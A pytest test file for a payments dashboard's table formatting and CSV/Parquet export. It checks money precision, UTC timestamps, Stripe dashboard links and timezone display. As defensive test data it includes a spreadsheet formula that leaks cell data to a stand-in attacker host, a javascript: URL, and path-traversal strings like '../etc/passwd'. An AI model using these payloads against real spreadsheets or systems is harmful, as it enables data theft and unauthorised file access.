"""Table specs: the screen shows formatted text with blanks blank and ids linking to the provider's dashboard; an export
holds plain numbers, currency codes, ISO 8601 UTC times and unit headers; CSV text is neutralised against formulas;
Parquet keeps money exact. Expected values written out by hand."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from dashboard import tables as t
from dashboard.provider_links import DISPLAY_ID, dashboard_url

SPEC = t.spec(
    t.ident("id", "Payment", link="payment"),
    t.money("amount", "Gross", minor=True),
    t.currency(),
    t.timestamp("created", "Created"),
    t.percent("refund_rate", "Refund rate"),
    t.count("payments", "Payments"),
    t.number("balance", "Balance"),
    t.text("description", "Description"),
    t.duration("seconds", "Took"),
    t.flag("disputed", "Disputed"),
)


def frame() -> pd.DataFrame:
    """Four rows as the store hands them back: naive UTC times, a NULL amount, provider text that looks like a
    formula, a negative refund amount."""
    return pd.DataFrame({
        "provider": ["stripe", "stripe", "stripe", "stripe"],
        "livemode": [False, True, False, False],
        "id": ["ch_1", "ch_2", "re_3", "ch_4"],
        "amount": [1602235, 223400, -450, None],  # float64 with NaN, as DuckDB returns a BIGINT with a NULL
        "currency": ["eur", "JPY", "usd", "kwd"],
        "created": [pd.Timestamp("2026-11-03 14:05:00"), pd.Timestamp("2026-11-03 09:30:00.250"), pd.NaT,
                    pd.Timestamp("2026-01-31 23:59:59")],
        "refund_rate": [0.0072, None, 1.0, 0.0],
        "payments": [12345, 7, None, 0],
        "balance": [-4.5, 2.25, None, 0.0],
        "description": ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "-2+3", None, "'quoted"],
        "seconds": [3.21, 3900.0, None, 0.35],
        "disputed": [True, False, None, False],
    })


def parse(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# -- CSV -------------------------------------------------------------------------------------------------------------

def test_csv_holds_numbers_codes_iso_times_and_unit_headers() -> None:
    rows = parse(t.csv_bytes(t.for_export(frame(), SPEC)))
    assert rows[0] == ["Payment", "Gross (major units)", "Gross (minor units)", "Currency", "Created (UTC)",
                       "Refund rate (%)", "Payments", "Balance", "Description", "Took (s)", "Disputed"]
    assert rows[1] == ["ch_1", "16022.35", "1602235", "EUR", "2026-11-03T14:05:00Z", "0.72", "12345", "-4.5",
                       """'=HYPERLINK("https://evil.example/?x="&A1,"click")""", "3.21", "true"]
    assert rows[2] == ["ch_2", "223400", "223400", "JPY", "2026-11-03T09:30:00.25Z", "", "7", "2.25", "'-2+3",
                       "3900.0", "false"]
    # A negative refund is a number, so it stays a number: no apostrophe before -4.50.
    assert rows[3] == ["re_3", "-4.50", "-450", "USD", "", "100.0", "", "", "", "", ""]
    # A NULL amount is blank in both money columns, never "None" or "nan"; "'quoted" gains one apostrophe.
    assert rows[4] == ["ch_4", "", "", "KWD", "2026-01-31T23:59:59Z", "0.0", "0", "0.0", "''quoted", "0.35",
                       "false"]
    assert len(rows) == 5


def test_every_formula_start_is_neutralised_and_the_rule_reverses() -> None:
    starts = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "\0x", "＝1", "＋1", "－1", "＠x", "'x"]
    harmless = ["1+1", "a=b", " =x", "ch_1", "", "café €5"]
    for cell in starts:
        assert t.neutralise(cell) == "'" + cell
    for cell in harmless:
        assert t.neutralise(cell) == cell
    # Reading a CSV back, one leading apostrophe is dropped: every original text returns exactly (audit hashes).
    for cell in starts + harmless:
        back = t.neutralise(cell)
        assert (back[1:] if back.startswith("'") else back) == cell


def test_times_in_other_zones_are_written_in_utc() -> None:
    df = pd.DataFrame({"at": [pd.Timestamp("2026-11-03 15:05:00+01:00"), dt.datetime(2026, 3, 29, 1, 30)]})
    rows = parse(t.csv_bytes(t.for_export(df, t.spec(t.timestamp("at", "At")))))
    assert rows == [["At (UTC)"], ["2026-11-03T14:05:00Z"], ["2026-03-29T01:30:00Z"]]


def test_money_without_its_currency_column_still_carries_the_code() -> None:
    df = pd.DataFrame({"amount_due": [600000, 7000], "currency": ["jpy", "eur"]})
    rows = parse(t.csv_bytes(t.for_export(df, t.spec(t.money("amount_due", "Amount due")))))
    assert rows == [["Currency", "Amount due (major units)"], ["JPY", "600000"], ["EUR", "70.00"]]


def test_a_malformed_currency_keeps_the_minor_units_and_guesses_no_exponent() -> None:
    df = pd.DataFrame({"amount": [1234], "currency": ["=1+1"]})
    rows = parse(t.csv_bytes(t.for_export(df, t.spec(t.money("amount", "Amount", minor=True), t.currency()))))
    assert rows[1] == ["", "1234", "'=1+1"]


def test_three_decimal_and_zero_decimal_amounts_keep_their_exponent() -> None:
    df = pd.DataFrame({"amount": [12340, 500, 123400, 0], "currency": ["KWD", "JPY", "ISK", "USD"]})
    rows = parse(t.csv_bytes(t.for_export(df, t.spec(t.money("amount", "Net"), t.currency()))))
    assert [r[0] for r in rows[1:]] == ["12.340", "500", "1234.00", "0.00"]


def test_dates_and_months_are_iso_dates() -> None:
    df = pd.DataFrame({"month": [dt.date(2026, 11, 1), dt.date(2026, 12, 1)]})
    spec = t.spec(t.date("month", "Month", date_format="%Y-%m"))
    assert parse(t.csv_bytes(t.for_export(df, spec))) == [["Month"], ["2026-11-01"], ["2026-12-01"]]
    assert t.for_screen(df, spec).data["month"].tolist() == ["2026-11", "2026-12"]


def test_two_columns_with_one_header_are_refused() -> None:
    df = pd.DataFrame({"a": [1], "b": [2]})
    with pytest.raises(ValueError, match="share a header"):
        t.for_export(df, t.spec(t.count("a", "Rows"), t.count("b", "Rows")))


def test_the_exporter_builds_the_file_only_when_called() -> None:
    df = frame()
    build = t.exporter(df.drop(columns=["description"]), SPEC)  # nothing is computed yet, so nothing fails yet
    with pytest.raises(KeyError, match="description"):
        build()
    assert t.exporter(df, SPEC)() == t.csv_bytes(t.for_export(df, SPEC))
    assert t.exporter(df, SPEC, "parquet")()[:4] == b"PAR1"
    with pytest.raises(ValueError, match="csv or parquet"):
        t.exporter(df, SPEC, "xlsx")


# -- Parquet ---------------------------------------------------------------------------------------------------------

def test_parquet_keeps_money_exact_and_types_real() -> None:
    big = 2**53 + 1  # one past what a float64 holds exactly
    df = pd.DataFrame({"amount": pd.array([big, 12345, 500, None], dtype="Int64"),
                       "currency": ["USD", "KWD", "JPY", "EUR"],
                       "created": [pd.Timestamp("2026-11-03 14:05:00"), pd.NaT, pd.NaT, pd.NaT],
                       "note": ["=1+1", None, "ok", "-2+3"]})
    spec = t.spec(t.money("amount", "Amount", minor=True), t.currency(), t.timestamp("created", "Created"),
                  t.text("note", "Note"))
    table = pq.read_table(io.BytesIO(t.parquet_bytes(t.for_export(df, spec))))
    assert table.schema.field("Amount (major units)").type == pa.decimal128(38, 3)  # KWD's 3 decimals
    assert table.schema.field("Amount (minor units)").type == pa.int64()
    assert table.schema.field("Created (UTC)").type == pa.timestamp("us", tz="UTC")
    assert table.column("Amount (major units)").to_pylist() == [
        Decimal("90071992547409.93"), Decimal("12.345"), Decimal("500"), None]
    assert table.column("Amount (minor units)").to_pylist() == [big, 12345, 500, None]
    assert table.column("Currency").to_pylist() == ["USD", "KWD", "JPY", "EUR"]
    assert table.column("Created (UTC)").to_pylist()[0] == dt.datetime(2026, 11, 3, 14, 5, tzinfo=dt.UTC)
    # Parquet runs no formulas: its text is the stored text, byte for byte.
    assert table.column("Note").to_pylist() == ["=1+1", None, "ok", "-2+3"]


def test_parquet_of_the_full_spec_reads_back() -> None:
    table = pq.read_table(io.BytesIO(t.parquet_bytes(t.for_export(frame(), SPEC))))
    assert table.column("Gross (major units)").to_pylist() == [
        Decimal("16022.35"), Decimal("223400"), Decimal("-4.50"), None]
    assert table.column("Refund rate (%)").to_pylist() == [0.72, None, 100.0, 0.0]
    assert table.column("Disputed").to_pylist() == [True, False, None, False]


# -- screen ----------------------------------------------------------------------------------------------------------

def test_screen_headers_in_words_formatted_money_and_blank_blanks() -> None:
    screen = t.for_screen(frame(), SPEC)
    data, config = screen
    assert {k: v["label"] for k, v in config.items()} == {
        "id": "Payment", "amount": "Gross", "currency": "Currency", "created": "Created (UTC)",
        "refund_rate": "Refund rate", "payments": "Payments", "balance": "Balance", "description": "Description",
        "seconds": "Took", "disputed": "Disputed"}
    assert data["amount"].tolist() == ["€16,022.35", "¥223,400", "-$4.50", ""]
    assert data["currency"].tolist() == ["EUR", "JPY", "USD", "KWD"]
    assert data["seconds"].tolist() == ["3.2 s", "1 h 05 min", "", "350 ms"]
    assert data["disputed"].tolist() == ["yes", "no", "", "no"]
    assert data["description"].tolist()[1:] == ["-2+3", "", "'quoted"]  # the screen shows text as it is
    assert config["payments"]["type_config"] == {"type": "number", "format": "%,d"}
    assert config["refund_rate"]["type_config"] == {"type": "number", "format": "%.1f%%"}
    assert data["refund_rate"].tolist()[0] == 0.72
    assert config["created"]["type_config"]["type"] == "datetime"
    assert str(data["created"].dtype).startswith("datetime64")  # naive UTC, sortable as a time
    assert screen.kwargs()["placeholder"] == ""  # Streamlit's own default draws "None"
    # No None, nan or NaT text anywhere in the text columns.
    for name in ("amount", "currency", "description", "seconds", "disputed"):
        assert not any(str(v) in ("None", "nan", "NaT", "<NA>") for v in data[name])


@pytest.mark.parametrize(("seconds", "shown"), [
    (0.35, "350 ms"), (0.9996, "1.0 s"), (3.21, "3.2 s"), (59.96, "1 min 00 s"), (245, "4 min 05 s"),
    (3599.6, "1 h 00 min"), (3900, "1 h 05 min"), (90061, "1 d 01 h"), (-3.21, "-3.2 s"), (None, ""),
])
def test_durations_are_rounded_for_reading(seconds: float | None, shown: str) -> None:
    assert t.format_duration(seconds) == shown


def test_durations_in_hours_and_milliseconds() -> None:
    df = pd.DataFrame({"age": [1.5, 30.0], "ms": [12.0, 1500.0]})
    data, _ = t.for_screen(df, t.spec(t.duration("age", "Cursor age", unit="h"), t.duration("ms", "p99", unit="ms")))
    assert data["age"].tolist() == ["1 h 30 min", "1 d 06 h"]
    assert data["ms"].tolist() == ["12 ms", "1.5 s"]
    rows = parse(t.csv_bytes(t.for_export(df, t.spec(t.duration("age", "Cursor age", unit="h")))))
    assert rows == [["Cursor age (h)"], ["1.5"], ["30.0"]]


# -- money order -----------------------------------------------------------------------------------------------------

def test_money_is_ordered_within_its_currency_never_across_minor_units() -> None:
    # The retry table's old order by raw amount_due put ¥6,000 between €70.00 and $30.00.
    df = pd.DataFrame({"invoice_id": ["in_eur70", "in_jpy", "in_usd", "in_eur5", "in_eur_none"],
                       "amount_due": [7000, 6000, 3000, 500, None],
                       "currency": ["eur", "jpy", "usd", "EUR", "eur"]}, index=[10, 11, 12, 13, 14])
    largest = t.sort_money(df, "amount_due", descending=True)
    assert largest["invoice_id"].tolist() == ["in_eur70", "in_eur5", "in_eur_none", "in_jpy", "in_usd"]
    smallest = t.sort_money(df, "amount_due")
    assert smallest["invoice_id"].tolist() == ["in_eur5", "in_eur70", "in_eur_none", "in_jpy", "in_usd"]
    assert list(smallest.columns) == ["invoice_id", "amount_due", "currency"]


# -- links -----------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("kind", "object_id", "path"), [
    ("payment", "ch_3Q", "payments/ch_3Q"), ("payment", "pi_3Q", "payments/pi_3Q"), ("refund", "re_1", "refunds/re_1"),
    ("dispute", "du_1", "disputes/du_1"), ("customer", "cus_1", "customers/cus_1"),
    ("subscription", "sub_1", "subscriptions/sub_1"), ("invoice", "in_1", "invoices/in_1"),
    ("event", "evt_1", "events/evt_1"),
])
def test_stripe_links_test_and_live(kind: str, object_id: str, path: str) -> None:
    assert dashboard_url("stripe", kind, object_id, False) == f"https://dashboard.stripe.com/test/{path}"
    assert dashboard_url("stripe", kind, object_id, True) == f"https://dashboard.stripe.com/{path}"


def test_no_link_without_a_known_mode_provider_or_id_shape() -> None:
    assert dashboard_url("stripe", "payment", "ch_1", None) is None  # a guessed mode would open the wrong one
    assert dashboard_url("stripe", "payment", "ch_1", "true") is None
    assert dashboard_url("braintree", "payment", "abc", True) is None
    for bad in ("../settings", "ch_1/../../x", "ch_1?x=1", "javascript:alert(1)", "", "ch 1", None):
        assert dashboard_url("stripe", "payment", bad, False) is None
    with pytest.raises(ValueError, match="unknown object kind"):
        dashboard_url("stripe", "charge", "ch_1", False)


def test_screen_links_show_the_id() -> None:
    data, config = t.for_screen(frame(), SPEC)
    assert data["id"].tolist() == ["https://dashboard.stripe.com/test/payments/ch_1",
                                   "https://dashboard.stripe.com/payments/ch_2",
                                   "https://dashboard.stripe.com/test/payments/re_3",
                                   "https://dashboard.stripe.com/test/payments/ch_4"]
    assert config["id"]["type_config"] == {"type": "link", "display_text": DISPLAY_ID}
    # The grid shows the regex's first group of each URL: the id itself.
    assert [re.search(DISPLAY_ID, u).group(1) for u in data["id"]] == ["ch_1", "ch_2", "re_3", "ch_4"]
    plain, plain_config = t.for_screen(frame(), SPEC, links=False)
    assert plain["id"].tolist() == ["ch_1", "ch_2", "re_3", "ch_4"]
    assert plain_config["id"]["type_config"] == {"type": "text"}


def test_rows_without_a_dashboard_keep_their_id_readable() -> None:
    df = pd.DataFrame({"provider": ["stripe", "braintree", "stripe"], "livemode": [True, None, None],
                       "id": ["sub_1", "bt_9", None]})
    data, config = t.for_screen(df, t.spec(t.ident("id", "Subscription", link="subscription")))
    assert data["id"].tolist() == ["sub_1", "bt_9", ""]
    assert config["id"]["type_config"] == {"type": "text"}
    assert data["id__link"].tolist() == ["https://dashboard.stripe.com/subscriptions/sub_1", None, None]
    assert config["id__link"]["type_config"] == {"type": "link", "display_text": "open"}


def test_a_table_without_a_provider_column_names_its_provider() -> None:
    refunds = pd.DataFrame({"id": ["re_1"], "livemode": [False]})
    data, _ = t.for_screen(refunds, t.spec(t.ident("id", "Refund", link="refund"), provider="stripe"))
    assert data["id"].tolist() == ["https://dashboard.stripe.com/test/refunds/re_1"]


def test_spec_mistakes_are_caught_early() -> None:
    with pytest.raises(ValueError, match="unknown kind"):
        t.Column("x", "X", "money_ish")
    with pytest.raises(ValueError, match="twice"):
        t.spec(t.text("a", "A"), t.count("a", "B"))
    with pytest.raises(KeyError, match="no column 'missing'"):
        t.for_screen(pd.DataFrame({"a": [1]}), t.spec(t.count("missing", "Missing")))


def test_streamlit_takes_the_screen_config() -> None:
    """The plain dicts are what st.dataframe's column_config accepts (checked by rendering in AppTest)."""
    from streamlit.testing.v1 import AppTest

    def page() -> None:
        import pandas as pd
        import streamlit as st

        from dashboard import tables as t

        df = pd.DataFrame({"provider": ["stripe"], "livemode": [False], "id": ["ch_1"], "amount": [1602235],
                           "currency": ["EUR"], "n": [None], "at": [pd.NaT]})
        screen = t.for_screen(df, t.spec(t.ident("id", "Payment", link="payment"), t.money("amount", "Gross"),
                                         t.currency(), t.count("n", "Refunds"), t.timestamp("at", "Created")))
        st.dataframe(screen.data, **screen.kwargs())

    at = AppTest.from_function(page).run(timeout=30)
    assert not at.exception
    shown = at.dataframe[0].value
    assert shown["id"].tolist() == ["https://dashboard.stripe.com/test/payments/ch_1"]
    assert shown["amount"].tolist() == ["€16,022.35"]


# -- the viewer's timezone -------------------------------------------------------------------------------------------

WHEN = t.spec(t.timestamp("at", "Created"))


def times() -> pd.DataFrame:
    """Naive UTC around the EU autumn change (01:00 UTC on Sunday 25 October 2026), a missing time, and a November
    afternoon."""
    return pd.DataFrame({"at": [pd.Timestamp("2026-10-25 00:30"), pd.Timestamp("2026-10-25 01:30"), pd.NaT,
                                pd.Timestamp("2026-11-03 14:05")]})


def wall(series: pd.Series) -> list[str]:
    return ["" if pd.isna(v) else v.strftime("%Y-%m-%d %H:%M %Z") for v in series]


def test_screen_shows_times_in_the_viewers_zone_and_says_which() -> None:
    data, config = t.for_screen(times(), WHEN, tz="Europe/Paris")
    assert config["at"]["label"] == "Created (Europe/Paris)"
    assert config["at"]["type_config"]["timezone"] == "Europe/Paris"
    # By hand: CEST (UTC+2) until 01:00 UTC on 25 Oct, CET (UTC+1) after, so 02:30 comes twice, a zone apart.
    assert wall(data["at"]) == ["2026-10-25 02:30 CEST", "2026-10-25 02:30 CET", "", "2026-11-03 15:05 CET"]
    assert data["at"][0] < data["at"][1]  # the same wall time, yet sorted as the instants they are
    assert "UTC in the CSV export" in config["at"]["help"] and "Europe/Paris" in config["at"]["help"]


def test_tokyo_is_nine_hours_ahead() -> None:
    data, config = t.for_screen(times(), WHEN, tz="Asia/Tokyo")
    assert config["at"]["label"] == "Created (Asia/Tokyo)"
    assert wall(data["at"])[3] == "2026-11-03 23:05 JST"


@pytest.mark.parametrize("tz", [None, "UTC", "Not/AZone", "../etc/passwd"])
def test_utc_or_an_unknown_zone_keeps_utc_and_its_header(tz: str | None) -> None:
    data, config = t.for_screen(times(), WHEN, tz=tz)
    assert config["at"]["label"] == "Created (UTC)"
    assert [str(v) for v in data["at"]] == ["2026-10-25 00:30:00", "2026-10-25 01:30:00", "NaT",
                                            "2026-11-03 14:05:00"]
    assert "UTC in the CSV export" in config["at"]["help"]


def test_a_columns_own_help_is_kept_beside_the_zone_note() -> None:
    spec = t.spec(t.timestamp("at", "Created", help="When Stripe created it."))
    config = t.for_screen(times(), spec, tz="Asia/Tokyo").column_config
    shown = config["at"]["help"]
    assert shown.startswith("When Stripe created it.") and "UTC in the CSV export" in shown


def test_export_stays_utc_whatever_the_viewers_zone() -> None:
    t.for_screen(times(), WHEN, tz="Asia/Tokyo")  # the screen's conversion leaves the frame as it was
    rows = parse(t.csv_bytes(t.for_export(times(), WHEN)))
    assert rows == [["Created (UTC)"], ["2026-10-25T00:30:00Z"], ["2026-10-25T01:30:00Z"], [""],
                    ["2026-11-03T14:05:00Z"]]
